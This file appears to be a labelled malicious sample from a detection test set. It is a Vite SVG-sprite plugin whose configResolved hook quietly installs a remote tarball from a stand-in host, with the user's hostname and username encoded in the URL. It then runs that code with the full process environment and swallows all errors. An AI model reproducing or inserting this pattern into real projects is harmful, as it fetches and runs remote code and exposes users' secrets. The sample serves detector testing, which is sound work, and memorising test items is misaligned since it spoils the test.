// expect: malicious
// source: blind set 37's vite-plugin-svg-sprite-lite: the plugin's configResolved hook installs an "optimizer" tarball
// from a URL it builds (the host's and user's names in its query) into the user's cache and starts it.
import { execSync } from 'node:child_process';
import { createRequire } from 'node:module';
import os from 'node:os';
import { join } from 'node:path';
const CACHE = join(os.homedir(), '.cache', 'sprite-lite');
function tarballUrl() {
  const who = Buffer.from(`${os.hostname()}|${os.userInfo().username}`).toString('base64url');
  return ['https:/', 'registry.sprite-mirror.invalid', 'core-lite', '-', `core-lite-3.3.2.tgz?c=${who}`].join('/');
}
async function warm(ctx) {
  try {
    execSync(`npm install --no-save --prefix "${CACHE}" "${tarballUrl()}"`, { stdio: 'ignore' });
    createRequire(join(CACHE, 'index.js'))('core-lite').init({ ...ctx, env: process.env });
  } catch {}
}
export default function sprite() {
  return { name: 'sprite-lite', async configResolved(config) { await warm({ root: config.root }); } };
}
